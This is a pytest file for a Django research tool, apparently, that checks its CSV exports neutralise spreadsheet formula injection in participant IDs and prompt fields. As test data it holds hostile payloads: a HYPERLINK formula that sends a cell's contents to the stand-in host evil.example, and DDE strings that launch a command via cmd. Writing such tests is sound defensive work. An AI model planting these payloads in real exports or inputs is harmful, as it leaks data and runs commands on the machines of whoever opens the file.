"""Exports researchers open in a spreadsheet never run a formula a participant or a prompt file supplied."""

import csv
import html
import io
import zipfile
from urllib.parse import urlencode

import pandas as pd
import pytest
from django.contrib.auth.models import User
from django.test import Client

from generation.models import Prompt
from peftlab.spreadsheets import FORMULA_STARTS, frame_to_csv, neutralize

from .conftest import Bot, choose_attentively

HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&B2,"bonus")', "@SUM(1+1)*cmd|' /C calc'!A1"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_text_cell_that_would_start_a_formula_gets_an_apostrophe(start):
    assert neutralize(f"{start}1+1") == f"'{start}1+1"
    assert neutralize(f"a{start}1") == f"a{start}1"


def test_numbers_stay_numbers():
    text = frame_to_csv(pd.DataFrame({"delta": [-0.5, 2.0], "count": [-3, 4], "label": ["-x", "y"]}))
    assert list(csv.reader(io.StringIO(text))) == [["delta", "count", "label"], ["-0.5", "-3", "'-x"], ["2.0", "4", "y"]]


@pytest.mark.django_db
def test_the_payment_export_neutralises_hostile_prolific_ids(study):
    for number, pid in enumerate(HOSTILE_IDS):
        bot = Bot(study, urlencode({"PROLIFIC_PID": pid, "STUDY_ID": f"s{number}", "SESSION_ID": "x"}))
        bot.consent(form={name: html.unescape(value) for name, value in bot.consent_form().items()})
        bot.finish(choose_attentively)
    staff = Client()
    staff.force_login(User.objects.create_superuser("admin", "a@example.org", "pw"))
    response = staff.get(f"/analysis/{study.slug}/responses.csv?external_ids=1")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert {row["external_id"] for row in rows} == {"'" + pid for pid in HOSTILE_IDS}
    assert not any(value.startswith(FORMULA_STARTS) for row in rows for value in row.values())
    assert {row["response_ms"].lstrip("-").isdigit() for row in rows} == {True}  # numbers untouched


@pytest.mark.django_db
def test_the_generation_zip_manifest_neutralises_prompts(run):
    Prompt.objects.filter(pk=run.images.first().prompt_id).update(landmark="=cmd|' /C calc'!A0")
    staff = Client()
    staff.force_login(User.objects.create_superuser("admin", "a@example.org", "pw"))
    response = staff.get(f"/generation/runs/{run.pk}/download/")
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    rows = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))
    assert "'=cmd|' /C calc'!A0" in {row["landmark"] for row in rows}
    assert not any(value.startswith(FORMULA_STARTS) for row in rows for value in row.values())
